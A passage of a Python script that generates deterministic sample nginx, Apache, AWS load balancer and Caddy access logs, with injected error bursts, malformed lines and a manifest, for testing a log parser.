        "nginx, one day of www.example.com (2026-11-20, +0100): two 5xx bursts, a 4xx scanner burst",
        "nginx",
        "combined",
        NGINX_COMBINED_FORMAT,
        format_nginx_combined,
        Window(at("2026-11-20", "00:00:00", CET), at("2026-11-21", "00:00:00", CET), CET),
        build_nginx_access,
        SEED + 1,
    ),
    LogSpec(
        "nginx_access.log.2.gz",
        "nginx, the rotated previous day (2026-11-19, +0100), gzip; quiet, no bursts",
        "nginx",
        "combined",
        NGINX_COMBINED_FORMAT,
        format_nginx_combined,
        Window(at("2026-11-19", "00:00:00", CET), at("2026-11-20", "00:00:00", CET), CET),
        build_nginx_rotated,
        SEED + 2,
        gzip=True,
    ),
    LogSpec(
        "nginx_timed.log",
        "nginx custom log_format with request/upstream times and upstream addresses, 12:00-18:00 (+0100); a 502 burst",
        "nginx",
        NGINX_TIMED_FORMAT,
        NGINX_TIMED_FORMAT,
        format_nginx_timed,
        Window(at("2026-11-20", "12:00:00", CET), at("2026-11-20", "18:00:00", CET), CET),
        build_nginx_timed,
        SEED + 3,
    ),
    LogSpec(
        "apache_common.log",
        "Apache common log format, two days of www.example.net (2026-11-19/20, -0500); some CRLF line ends",
        "apache",
        "common",
        APACHE_COMMON_FORMAT,
        format_apache_common,
        Window(at("2026-11-19", "00:00:00", EST), at("2026-11-21", "00:00:00", EST), EST),
        build_apache_common,
        SEED + 4,
    ),
    LogSpec(
        "apache_vhost_combined.log",
        "Apache vhost_combined (Debian), www.example.org:443 and api.example.org:443, 2026-11-20 (+0000)",
        "apache",
        "vhost_combined",
        APACHE_VHOST_COMBINED_FORMAT,
        format_apache_vhost_combined,
        Window(at("2026-11-20", "00:00:00", UTC), at("2026-11-21", "00:00:00", UTC), UTC),
        build_apache_vhost,
        SEED + 5,
    ),
    LogSpec(
        "nginx_json.log",
        "nginx JSON lines (escape=json), www.example.com and api.example.com, 08:00-20:00 (+01:00)",
        "nginx",
        "json",
        NGINX_JSON_FORMAT,
        format_nginx_json,
        Window(at("2026-11-20", "08:00:00", CET), at("2026-11-20", "20:00:00", CET), CET),
        build_nginx_json,
        SEED + 6,
    ),
    LogSpec(
        "alb_access.log",
        "AWS Application Load Balancer in front of www.example.com and api.example.com, 08:00-12:00 UTC",
        "alb",
        "alb",
        ALB_FORMAT,
        format_alb,
        Window(at("2026-11-20", "08:00:00", UTC), at("2026-11-20", "12:00:00", UTC), UTC),
        build_alb,
        SEED + 7,
    ),
    LogSpec(
        "caddy_access.log",
        "Caddy JSON access log of www.example.com and api.example.com, 12:00-16:00 UTC",
        "caddy",
        "caddy",
        CADDY_FORMAT,
        format_caddy,
        Window(at("2026-11-20", "12:00:00", UTC), at("2026-11-20", "16:00:00", UTC), UTC),
        build_caddy,
        SEED + 8,
    ),
)


# ------------------------------------------------------------------ assembly


@dataclass
class Output:
    """A file's bytes (uncompressed) and its manifest entry."""

    data: bytes
    entry: dict[str, object]


def write_order(spec: LogSpec, built: Built) -> list[Request]:
    """Lines in the order the server writes them.

    nginx writes at completion, stamped with the completion time; a busy
    worker's cached clock puts a few lines a second out of order. Apache stamps
    the arrival time and writes at completion, so slow requests land late.
    """
    indexed = list(enumerate(built.records))
    if spec.server == "apache":
        indexed.sort(key=lambda p: (p[1].ts + p[1].request_ms // 1000, p[0]))
    else:
        indexed.sort(key=lambda p: (p[1].ts, p[0]))
    ordered = [r for _, r in indexed]
    dice = Dice(spec.seed * 7 + 1)
    step = len(ordered) // (built.swaps + 1) if built.swaps else 0
    for k in range(built.swaps):
        i = step * (k + 1) + dice.below(50)
        while i + 2 < len(ordered) and not (ordered[i].ts < ordered[i + 1].ts <= ordered[i].ts + 2):
            i += 1
        ordered[i], ordered[i + 1] = ordered[i + 1], ordered[i]
    return ordered


def check_bursts(spec: LogSpec, built: Built) -> None:
    """Every minute of a 5xx burst must have a 5xx rate of at least 30%."""
    for burst in built.bursts:
        if burst["kind"] != "5xx":
            continue
        start, end = _parse_utc(burst["start"]), _parse_utc(burst["end"])
        for minute in range(start, end, 60):
            inside = [r for r in built.records if minute <= r.ts < minute + 60]
            errors = sum(1 for r in inside if r.status >= 500)
            if errors < 0.3 * len(inside):
                raise AssertionError(f"{spec.name}: {iso_utc(minute)}: {errors}/{len(inside)} 5xx")


def assemble(spec: LogSpec, built: Built) -> Output:
    check_bursts(spec, built)
    ordered = write_order(spec, built)
    junk = sorted(built.junk, key=lambda j: j.ts)
    lines: list[bytes] = []
    malformed: list[dict[str, object]] = []
    valid: list[tuple[int, Request]] = []
    j = 0
    for r in ordered:
        while j < len(junk) and junk[j].ts < r.ts:
            lines.append(junk[j].data)
            malformed.append({"line": len(lines), "kind": junk[j].kind})
            j += 1
        lines.append(spec.formatter(r, spec.window.tz))
        valid.append((len(lines), r))
    for rest in junk[j:]:
        lines.append(rest.data)
        malformed.append({"line": len(lines), "kind": rest.kind})

    crlf: list[int] = []
    if built.crlf:
        step = len(valid) // (built.crlf + 1)
        for k in range(1, built.crlf + 1):
            number = valid[step * k][0]
            lines[number - 1] += b"\r"
            crlf.append(number)

    late, latest = [], 0
    for number, r in valid:
        if r.ts < latest:
            late.append(number)
        latest = max(latest, r.ts)

    statuses = Counter(r.status for _, r in valid)
    times = [r.ts for _, r in valid]
    data = b"".join(line + b"\n" for line in lines)
    entry: dict[str, object] = {
        "description": spec.description,
        "server": spec.server,
        "format": spec.format,
        "format_string": spec.format_string,
        "utc_offset": _offset(spec.window.tz, True),
        "compression": "gzip" if spec.gzip else None,
        "bytes": len(data),
        "lines": len(lines),
        "valid": len(valid),
        "malformed": malformed,
        "status_counts": {str(code): statuses[code] for code in sorted(statuses)},
        "time_range": {"start": iso_utc(min(times)), "end": iso_utc(max(times))},
        "bursts": built.bursts,
        "out_of_order_lines": late,
        "crlf_lines": crlf,
    }
    return Output(data, entry)


def gzip_bytes(data: bytes) -> bytes:
    """gzip with mtime 0 and no file name in the header: the same bytes every run."""
    buffer = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=buffer, compresslevel=9, mtime=0) as gz:
        gz.write(data)
    return buffer.getvalue()


def generate() -> dict[str, bytes]:
    """Every file of the directory (besides this script), name → bytes."""
    files: dict[str, bytes] = {}
    manifest: dict[str, object] = {
        "generator": "sample_logs/generate.py",
        "note": "Line numbers are 1-based physical lines; times are UTC; burst ends are exclusive.",
        "files": {},
    }
    for spec in SPECS:
        out = assemble(spec, spec.build(spec))
        files[spec.name] = gzip_bytes(out.data) if spec.gzip else out.data
        manifest["files"][spec.name] = out.entry  # type: ignore[index]
    files["manifest.json"] = (json.dumps(manifest, indent=2) + "\n").encode()
    files["README.md"] = readme(manifest["files"]).encode()  # type: ignore[arg-type]
    return files


# ------------------------------------------------------------------ README


def _size(n: int) -> str:
    return f"{n / 1_000_000:.2f} MB" if n >= 1_000_000 else f"{n / 1000:.0f} kB"


def readme(entries: dict[str, dict[str, object]]) -> str:
    tz_of = {spec.name: spec.window.tz for spec in SPECS}
    out = [
        "# Sample access logs",
        "",
        "Realistic, deterministic nginx, Apache, AWS load balancer and Caddy access logs for",
        "trying `httplog` and for its tests: a small coffee shop (`www.example.com`) with browsers, a mobile app,",
        "crawlers (Googlebot, bingbot, GPTBot, AhrefsBot), scripts (curl, python-requests),",
        "scanners and health checks; IPv4 and about 10% IPv6 clients, mostly from",
        "documentation ranges. Every file contains injected trouble with known answers.",
        "",
        "**Do not edit these files by hand**: they, `manifest.json` and this README are",
        "written by `generate.py` (standard library only, fixed seeds, byte-identical output).",
        "",
        "```sh",
        "python sample_logs/generate.py          # rewrite everything (from any directory)",
        "python sample_logs/generate.py --check  # exit 1 if the committed files differ",
        "```",
        "",
        "## Files",
        "",
        "| file | server, format | lines | valid | rejected | size | time range (UTC) |",
        "|---|---|---:|---:|---:|---:|---|",
    ]
    for name, e in entries.items():
        tr = e["time_range"]
        size = _size(int(e["bytes"]))  # type: ignore[arg-type]
        fmt = "custom `timed`" if name == "nginx_timed.log" else f"`{e['format']}`"
        out.append(
            f"| `{name}` | {e['server']}, {fmt} | {e['lines']} | {e['valid']} | {len(e['malformed'])} "  # type: ignore[arg-type]
            f"| {size}{' uncompressed' if e['compression'] else ''} | {tr['start']} – {tr['end']} |"  # type: ignore[index]
        )
    out += ["", "What each file is:", ""]
    out += [f"- `{name}`: {e['description']}." for name, e in entries.items()]
    out += [
        "",
        "## Formats",
        "",
        "nginx `combined` (`nginx_access.log`, `nginx_access.log.2.gz`):",
        "",
        "```nginx",
        f"log_format combined '{NGINX_COMBINED_FORMAT}';",
        "```",
        "",
        "`nginx_timed.log` (`NGINX_TIMED_FORMAT` in `generate.py`):",
        "",
        "```nginx",
        f"log_format timed '{NGINX_TIMED_FORMAT}';",
        "```",
        "",
        "`nginx_json.log`:",
        "",
        "```nginx",
        f"log_format json escape=json '{NGINX_JSON_FORMAT}';",
        "```",
        "",
        "Apache `common` (`apache_common.log`) and Debian's `vhost_combined`",
        "(`apache_vhost_combined.log`):",
        "",
        "```apache",
        f'LogFormat "{APACHE_COMMON_FORMAT.replace(chr(34), chr(92) + chr(34))}" common',
        f'LogFormat "{APACHE_VHOST_COMBINED_FORMAT.replace(chr(34), chr(92) + chr(34))}" vhost_combined',
        "```",
        "",
        "`alb_access.log`: an AWS Application Load Balancer's access log entries, as AWS",
        "documents them (`format_alb` in `generate.py`):",
        "",
        "```text",
        ALB_FORMAT,
        "```",
        "",
        "`caddy_access.log`: Caddy's JSON access log (`log` directive, `json` encoder):",
        "`ts` in epoch seconds, `duration` in seconds, the request's headers as arrays.",
        "",
        "Written as the servers write them:",
        "",
        '- nginx escapes `"`, `\\`, control and 8-bit bytes in variables as `\\xHH` (so a',
        '  User-Agent with quotes shows `\\x22`); Apache writes `\\"`, `\\\\` and `\\xhh`;',
        '  `escape=json` writes `\\"`, `\\\\`, `\\u00XX` for controls, and an absent value as',
        '  `""` where the other formats write `-`.',
        "- nginx's `$time_local` is the time the response completed, so lines are in time",
        "  order except a few one or two seconds late (each worker's cached clock). Apache's",
        "  `%t` is the arrival time but lines are written at completion, so slow requests",
        "  (downloads, websockets) appear late. `out_of_order_lines` in the manifest lists them.",
        "- `$upstream_response_time` and `$upstream_addr` are `-` without an upstream (static",
        "  files, 444, requests nginx rejects), lists after retries (`0.001, 0.024`) and",
        "  ` : `-separated groups after an internal redirect (`0.010, 0.002 : 0.031`).",
        "- `%b` is `-` for an empty body, `%O` counts headers too. `-` as the request means",
        "  the connection closed before a request line (nginx 400, Apache 408).",
        "- A TLS handshake sent to a plain-HTTP port is a valid line with status 400 and an",
        '  unreadable request (`"\\x16\\x03\\x01..."`).',
        "- The load balancer answers 502 and 504 itself when its target fails: those entries",
        "  have `-1` target and response timings and `-` as the target's status.",
        "",
        "## Injected bursts",
        "",
        "| file | kind | UTC | local | codes | path | error lines |",
        "|---|---|---|---|---|---|---:|",
    ]
    for name, e in entries.items():
        for b in e["bursts"]:  # type: ignore[attr-defined]
            start, end = _parse_utc(b["start"]), _parse_utc(b["end"])
            tz = tz_of[name]
            utc = f"{b['start'][11:16]}–{b['end'][11:16]}"
            local = f"{hhmm(start, tz)}–{hhmm(end, tz)} ({_offset(tz, False)})"
            extra = "".join(f", {k} `{b[k]}`" for k in ("client", "upstream") if k in b)
            codes = ", ".join(str(c) for c in b["codes"])
            out.append(
                f"| `{name}` | {b['kind']} | {b['start'][:10]} {utc} | {local} | {codes} | `{b['path']}`{extra} | {b['error_lines']} |"
            )
    out += [
        "",
        "Request volume stays about normal during the 5xx bursts: failures replace",
        "ordinary requests, and clients retry. In `nginx_timed.log` latencies rise and",
        "upstream `10.0.1.13:8080` dominates while `/api/v1/payments` fails. Outside the",
        "bursts, 5xx stay well under 1%.",
        "",
        "## Lines a parser must reject",
        "",
        "Lines are 1-based physical lines (empty ones count). Rejected kinds: `empty`,",
        "`truncated` (cut in the middle of the User-Agent, or of the request for `common`),",
        "`error_log` (an nginx or Apache error-log line), `binary` (NUL and invalid UTF-8:",
        '`\\x00\\xff\\xfe garbage \\x80`). The TLS handshake and `"-"` lines are valid.',
        "",
        "| file | rejected lines |",
        "|---|---|",
    ]
    for name, e in entries.items():
        cells = ", ".join(f"{m['line']} {m['kind']}" for m in e["malformed"])  # type: ignore[attr-defined]
        out.append(f"| `{name}` | {cells} |")
    crlf = entries["apache_common.log"]["crlf_lines"]
    out += [
        "",
        f"`apache_common.log` lines {', '.join(str(n) for n in crlf)} end in CRLF (valid lines).",  # type: ignore[attr-defined]
        "",
        "## manifest.json",
        "",
        "Per file: `format` (named format or format string), `format_string`, `lines`",
        "(physical, empty ones included), `valid`, `malformed` (`{line, kind}`),",
        "`status_counts` over valid lines, `time_range` (UTC), `bursts` (`{kind, start,",
        "end (exclusive), codes, path, client?/upstream?, error_lines}`, UTC),",
        "`out_of_order_lines`, `crlf_lines`, `bytes` (uncompressed).",
        "",
    ]
    return "\n".join(out)


def _parse_utc(text: object) -> int:
    return int(datetime.strptime(str(text), "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC).timestamp())


# ------------------------------------------------------------------ main


def check(files: dict[str, bytes], directory: Path) -> list[str]:
    """Differences between freshly generated files and those in ``directory``.

    A ``.gz`` whose compressed bytes differ but whose content is identical passes
    (another zlib build, such as zlib-ng, compresses differently); it is reported.
    """
    problems = []
    for name, data in files.items():
        path = directory / name
        if not path.exists():
            problems.append(f"{name}: missing")
            continue
        old = path.read_bytes()
        if old == data:
            continue
        if name.endswith(".gz") and gzip.decompress(old) == gzip.decompress(data):
            print(
                f"note: {name}: same content, different compression (zlib build)", file=sys.stderr
            )
            continue
        problems.append(f"{name}: differs")
    return problems


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument(
        "--check",
        action="store_true",
        help="compare with the committed files; exit 1 if they differ",
    )
    parser.add_argument(
        "--out",
        type=Path,
        default=HERE,
        help="directory to write to (default: next to this script)",
    )
    args = parser.parse_args(argv)
    files = generate()
    if args.check:
        with tempfile.TemporaryDirectory() as tmp:
            for name, data in files.items():
                (Path(tmp) / name).write_bytes(data)
            regenerated = {name: (Path(tmp) / name).read_bytes() for name in files}
        problems = check(regenerated, args.out)
        for p in problems:
            print(p, file=sys.stderr)
        print(
            "sample logs are up to date" if not problems else "run: python sample_logs/generate.py"
        )
        return 1 if problems else 0
    args.out.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (args.out / name).write_bytes(data)
    return 0


if __name__ == "__main__":
    sys.exit(main())
